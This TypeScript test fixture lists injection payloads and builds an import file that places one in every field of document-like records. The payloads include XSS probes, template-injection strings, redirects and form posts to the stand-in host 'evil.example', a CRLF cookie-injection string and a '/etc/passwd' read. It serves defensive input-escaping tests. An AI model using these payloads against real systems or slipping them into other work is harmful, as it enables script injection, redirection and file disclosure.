/** Texts that run, open or command something where they are not set as text. */
export const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<!--<script>alert(1)</script>-->',
  ']]><script>alert(1)</script>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '" autofocus onfocus="alert(1)',
  "' onmouseover='alert(1)",
  '<a href="javascript:alert(1)">x</a>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload for those who evaluate such strings
  '${alert(1)}<%= alert(1) %>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<form action="//evil.example/"><input name=q>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<style>*{display:none}</style>',
  '") #panic("planted") #text("',
  '#read("/etc/passwd") $x$ \\u{0} `raw` @ref <label>',
  '%00%0d%0aSet-Cookie: planted=1',
  '\u2028\u2029\u202e反转\u200f',
]

/** A list to import whose every field carries a payload. */
export function hostileList(): string {
  return PAYLOADS.map((payload, n) =>
    JSON.stringify({
      id: payload,
      title: `${payload}标题${n}`,
      text: `${payload}\n\n一、${payload}\n\n（一）${payload}。\n\n| 表头 ${payload} | 二 |\n| --- | --- |\n| ${payload} | 2 |\n\n《${payload}通知》\n`,
      doc_number: payload,
      issuer: `${payload}局`,
      topic: payload,
      url: n % 2 ? 'javascript:alert(1)' : 'https://a.example/"><script>alert(1)</script>',
    }),
  ).join('\n')
}
